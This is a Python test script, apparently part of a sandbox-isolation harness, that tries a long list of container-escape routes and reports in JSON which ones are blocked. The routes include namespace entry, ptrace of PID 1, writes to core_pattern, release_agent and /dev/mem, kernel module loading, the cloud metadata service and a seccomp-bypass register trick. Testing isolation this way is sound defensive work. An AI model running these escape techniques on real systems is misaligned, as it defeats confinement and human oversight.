"""Every way out that we know, tried one after the other: ``python -I -S attempts.py [NAME…]``, itself a file in the outside's folder.

It prints one JSON object: each attempt's name, and what stopped it, or ``ESCAPED: …``. An attempt that reaches a listener of
``outside.py`` says its name there, so the outside's count does not depend on what this program believes.
"""

import ctypes
import errno
import glob
import json
import os
import select
import signal
import socket
import struct
import sys
import tempfile
from collections.abc import Callable

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x00020000, 0x10000000, 0x40000000, 0x20000000
MNT_DETACH, MS_BIND = 2, 4096
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
SYS_IO_URING_SETUP, SYS_PIDFD_GETFD = 425, 438
AF_VSOCK = 40
SYS_KEYCTL = {"x86_64": 250, "aarch64": 219}.get(os.uname().machine, -1)
SYS_INIT_MODULE = {"x86_64": 175, "aarch64": 105}.get(os.uname().machine, -1)
TIOCSTI = 0x5412
PORT = 80
SHARED_MEMORY_KEY = 0x0C4A05
OUTSIDE = os.path.dirname(os.path.abspath(__file__))
RUN_SOCKET = f"/run/{os.path.basename(OUTSIDE)}/engine.sock"
WITHIN_S = 5

libc = ctypes.CDLL(None, use_errno=True)


def checked(result: int) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def tcp(name: str, address: str) -> None:
    with socket.create_connection((address, PORT), timeout=1) as stream:
        stream.sendall(name.encode())


def udp(name: str, address: str) -> None:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(name.encode(), (address, PORT))
    if address.startswith("192.0.2."):
        raise OSError(
            errno.ENETUNREACH, "sent, and the count will tell"
        )  # here these lead to the loopback's black hole


def unix(name: str, path: str, kind: int = socket.SOCK_STREAM) -> None:
    with socket.socket(socket.AF_UNIX, kind) as stream:
        stream.connect(path)
        stream.sendall(name.encode())


def network_of_any_process(name: str, proc: str = "/proc") -> None:
    """Enter the network of each process that is seen there but our own, and knock at the outside."""
    own = os.readlink("/proc/self/ns/net") if os.path.exists("/proc/self/ns/net") else ""
    stopped: OSError = OSError(errno.ESRCH, "there is no other network to enter")
    for path in sorted(glob.glob(f"{proc}/[0-9]*/ns/net")):
        try:
            if os.readlink(path) == own:
                continue
            descriptor = os.open(path, os.O_RDONLY)
            checked(libc.setns(descriptor, CLONE_NEWNET))
            tcp(name, "192.0.2.1")
            return
        except OSError as error:
            stopped = error
    raise stopped


def own_everything() -> None:
    checked(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))


def without_proc(name: str) -> None:
    while libc.umount2(b"/proc", MNT_DETACH) == 0:
        pass
    first = ctypes.get_errno()
    if not glob.glob("/proc/[0-9]*"):
        raise OSError(first, "nothing under /proc")
    network_of_any_process(name)
    raise OSError(first, os.strerror(first))


def without_proc_as_owner(name: str) -> None:
    own_everything()
    without_proc(name)


def with_fresh_proc(name: str) -> None:
    folder = tempfile.mkdtemp()
    checked(libc.mount(b"proc", folder.encode(), b"proc", 0, None))
    network_of_any_process(name, folder)


def with_fresh_proc_as_owner(name: str) -> None:
    own_everything()
    with_fresh_proc(name)


def with_new_numbers(name: str) -> None:
    checked(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID))
    if os.fork() == 0:
        try:
            with_fresh_proc(name)
        finally:
            os._exit(0)
    os.wait()
    raise OSError(errno.EPERM, "the child knows, and the count will tell")


def root_of_any_process(name: str) -> None:
    stopped: OSError = OSError(errno.ESRCH, "there is no other process")
    for root in sorted(glob.glob("/proc/[0-9]*/root")):
        if root == f"/proc/{os.getpid()}/root":
            continue
        for path in (f"{OUTSIDE}/agent.sock", RUN_SOCKET):
            try:
                os.chdir(root + os.path.dirname(path))
                unix(name, os.path.basename(path))
                return
            except OSError as error:
                stopped = error
    raise stopped


def trace_the_keeper(name: str) -> None:
    checked(libc.ptrace(PTRACE_ATTACH, 1, None, None))
    libc.ptrace(PTRACE_DETACH, 1, None, None)


def descriptor_of_the_keeper(name: str) -> None:
    checked(libc.syscall(SYS_PIDFD_GETFD, os.pidfd_open(1), 0, 0))


def uncovered_socket(name: str) -> None:
    """Take the cover off, in a mount namespace of our own."""
    own_everything()
    first = libc.umount2(f"{OUTSIDE}/agent.sock".encode(), MNT_DETACH)
    libc.umount2(b"/run", MNT_DETACH)
    libc.umount2(os.path.dirname(RUN_SOCKET).encode(), MNT_DETACH)
    for path in (f"{OUTSIDE}/agent.sock", RUN_SOCKET):
        try:
            unix(name, path)
            return
        except OSError as error:
            first = error.errno or 0
    raise OSError(first, os.strerror(first))


def socket_by_another_mount(name: str) -> None:
    """Mount the folder elsewhere without what is mounted in it."""
    folder = tempfile.mkdtemp()
    own_everything()
    checked(libc.mount(OUTSIDE.encode(), folder.encode(), None, ctypes.c_ulong(MS_BIND), None))
    unix(name, f"{folder}/agent.sock")


def socket_by_another_name(name: str) -> None:
    os.link(f"{OUTSIDE}/agent.sock", f"{OUTSIDE}/agent.link")
    unix(name, f"{OUTSIDE}/agent.link")


def hypervisor(name: str) -> None:
    socket.socket(AF_VSOCK, socket.SOCK_STREAM).close()


def hypervisor_by_a_wide_number(name: str) -> None:
    """The kernel looks at the lower half of the register alone; a filter that looks at all of it is passed."""
    checked(libc.syscall({"x86_64": 41, "aarch64": 198}[os.uname().machine], ctypes.c_uint64(1 << 32 | AF_VSOCK), 1, 0))


def io_uring(name: str) -> None:
    checked(libc.syscall(SYS_IO_URING_SETUP, 8, ctypes.create_string_buffer(120)))


def key_ring(name: str) -> None:
    checked(libc.syscall(SYS_KEYCTL, 0, ctypes.c_int(-4), 1))


def type_into_the_terminal(name: str) -> None:
    import fcntl
    import pty

    _, ours = pty.openpty()
    fcntl.ioctl(ours, TIOCSTI, b"x")


def shared_memory(name: str) -> None:
    checked(libc.shmget(SHARED_MEMORY_KEY, 4096, 0))


def write_setting(path: str) -> Callable[[str], None]:
    def attempt(name: str) -> None:
        os.close(os.open(path, os.O_WRONLY))

    return attempt


def release_agent(name: str) -> None:
    places = glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)
    os.close(os.open(places[0] if places else "/sys/fs/cgroup/release_agent", os.O_WRONLY))


def load_module(name: str) -> None:
    try:
        checked(libc.syscall(SYS_INIT_MODULE, b"\x7fELF", 4, b""))
    except OSError as error:
        if error.errno in (errno.EPERM, errno.ENOSYS):
            raise
        # any other complaint is about the module, so one would have been taken


def device(name: str) -> None:
    path = tempfile.mktemp()
    os.mknod(path, 0o600 | 0o060000, os.makedev(7, 0))
    os.unlink(path)


def host_name(name: str) -> None:
    own = socket.gethostname().encode()
    checked(libc.sethostname(own, len(own)))


def raw_packets(name: str) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as packets:
        packets.bind(("lo", 0))


def setuid_program(name: str) -> None:
    """A program's setuid bit: it must not make another user of whoever starts it."""
    path = f"{OUTSIDE}/setuid"
    if not os.path.exists(path):
        raise OSError(errno.ENOENT, "there is none")
    if os.getuid() == 0:
        raise OSError(errno.EPERM, "root has nothing to gain")
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.dup2(writer, 1)
        os.execv(path, [path, "-u"])
    os.close(writer)
    uid = int(os.read(reader, 20))
    os.wait()
    if uid == os.getuid():
        raise OSError(errno.EPERM, "it ran as ourselves")


ATTEMPTS: dict[str, Callable[[str], None]] = {
    "tcp over IPv4": lambda name: tcp(name, "192.0.2.1"),
    "tcp over IPv6": lambda name: tcp(name, "2001:db8::1"),
    "udp over IPv4": lambda name: udp(name, "192.0.2.1"),
    "udp over IPv6": lambda name: udp(name, "2001:db8::1"),
    "metadata service": lambda name: tcp(name, "169.254.169.254"),
    "metadata service by udp": lambda name: udp(name, "169.254.169.254"),
    "abstract socket": lambda name: unix(name, "\0chaoskit-escape"),
    "socket file": lambda name: unix(name, f"{OUTSIDE}/agent.sock"),
    "datagram socket file": lambda name: unix(name, f"{OUTSIDE}/log.sock", socket.SOCK_DGRAM),
    "socket in /run": lambda name: unix(name, RUN_SOCKET),
    "socket uncovered": uncovered_socket,
    "socket by another mount": socket_by_another_mount,
    "socket by another name": socket_by_another_name,
    "network of any process": network_of_any_process,
    "what /proc covers": without_proc,
    "what /proc covers, as its owner": without_proc_as_owner,
    "a fresh /proc": with_fresh_proc,
    "a fresh /proc, as its owner": with_fresh_proc_as_owner,
    "new process numbers": with_new_numbers,
    "root folder of any process": root_of_any_process,
    "tracing the keeper": trace_the_keeper,
    "a descriptor of the keeper": descriptor_of_the_keeper,
    "hypervisor": hypervisor,
    "hypervisor by a wide number": hypervisor_by_a_wide_number,
    "io_uring": io_uring,
    "key ring": key_ring,
    "typing into the terminal": type_into_the_terminal,
    "shared memory": shared_memory,
    "kernel.core_pattern": write_setting("/proc/sys/kernel/core_pattern"),
    "kernel.modprobe": write_setting("/proc/sys/kernel/modprobe"),
    "sysrq": lambda name: _only_if_real("/proc/sysrq-trigger"),
    "uevent_helper": write_setting("/sys/kernel/uevent_helper"),
    "release_agent": release_agent,
    "memory of the machine": write_setting("/dev/mem"),
    "kernel module": load_module,
    "device file": device,
    "host name": host_name,
    "raw packets": raw_packets,
    "setuid program": setuid_program,
}  # fmt: skip


def _only_if_real(path: str) -> None:
    descriptor = os.open(path, os.O_WRONLY)
    device_number = os.fstat(descriptor).st_rdev
    os.close(descriptor)
    if device_number == os.stat("/dev/null").st_rdev:
        raise OSError(errno.EACCES, "it is covered")


def attempt(name: str) -> str:
    """What became of it, in a process of its own that has ``WITHIN_S`` seconds."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            ATTEMPTS[name](name)
            outcome = "ESCAPED"
        except (OSError, ValueError) as error:
            outcome = f"{type(error).__name__}: {error}"
        os.write(writer, outcome.encode())
        os._exit(0)
    os.close(writer)
    ready = select.select([reader], [], [], WITHIN_S)[0]
    text = os.read(reader, 1000).decode() if ready else "it hung"
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    os.close(reader)
    return text or "it died"


def main() -> None:
    names = sys.argv[1:] or list(ATTEMPTS)
    json.dump({name: attempt(name) for name in names}, sys.stdout)


assert struct.calcsize("P") == 8, "the numbers of system calls above are those of 64 bits"

if __name__ == "__main__":
    main()
